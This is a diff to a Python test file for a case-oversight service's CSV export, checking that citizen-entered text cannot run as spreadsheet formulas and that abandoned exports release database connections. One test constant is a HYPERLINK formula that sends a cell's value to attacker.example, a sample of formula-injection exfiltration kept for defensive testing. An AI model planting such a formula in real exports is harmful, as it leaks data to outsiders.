@@ -1,11 +1,16 @@
 """The CSV export as the 1022 centre opens it in a spreadsheet: what citizens and units wrote comes
 back as text, never as a formula the spreadsheet would run."""
 
+import asyncio
 import csv
 import io
 
+import asyncpg
+import httpx
 import pytest
 
+from services.oversight.api import cases as case_api
+from tests.integration.oversight.support import auth
 from tests.unit.oversight.story import CaseStory
 
 FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem hình ảnh")'
@@ -52,3 +57,37 @@ def test_vietnamese_text_is_exported_as_written(api):
         "Đã trao 20 kg gạo và thực phẩm.")
     assert row["tracking_code"] == PLAIN.tracking_code and row["unit_name"] == "UBND Quận 1"
     assert row["citizen_phone"] == "'+84903123456"  # a leading "+" too would make the number a formula
+
+
+async def test_an_export_its_client_stopped_reading_lets_its_connection_go(api, monkeypatch):
+    """The export reads as its client takes it. A client that stopped reading held one of the
+    readers' eight connections, idle in its transaction, for as long as it kept the socket open: a
+    few such left HĐND, MTTQ and the centre no connection to read through."""
+    monkeypatch.setattr(case_api, "EXPORT_IDLE_SECONDS", 1.0)
+    owner = await asyncpg.connect(api.settings.dsn())
+    try:
+        # More than the sockets between them hold: the export waits on its client.
+        await owner.execute("INSERT INTO cases (case_id, tracking_code, status, version, updated_at, received_at,"
+                            " description) SELECT gen_random_uuid(), 'BULK-' || i, 'received', 1, now(),"
+                            " now() - i * interval '1 second', repeat('hết gạo ', 250) FROM generate_series(1, 20000) i")
+        idle = ("SELECT count(*) FROM pg_stat_activity WHERE datname = $1 AND usename = $2"
+                " AND state = 'idle in transaction'")
+        database, reader = api.settings.pg_database, api.settings.reader_user
+        async with httpx.AsyncClient(timeout=60) as client, client.stream(
+                "GET", f"{api.url}/v1/cases.csv", headers=auth("centre")) as answer:
+            assert answer.status_code == 200
+            chunks = answer.aiter_bytes()
+            await anext(chunks)  # then reads no more
+            deadline = asyncio.get_running_loop().time() + 30
+            while not await owner.fetchval(idle, database, reader):
+                assert asyncio.get_running_loop().time() < deadline, "the export never waited on its client"
+                await asyncio.sleep(0.1)
+            await asyncio.sleep(3)
+            assert await owner.fetchval(idle, database, reader) == 0
+            with pytest.raises(httpx.HTTPError):  # cut short, never a file that looks whole
+                async for _ in chunks:
+                    pass
+        assert api.get("/v1/cases?limit=1", role="council").status_code == 200
+    finally:
+        await owner.execute("DELETE FROM cases WHERE tracking_code LIKE 'BULK-%'")
+        await owner.close()
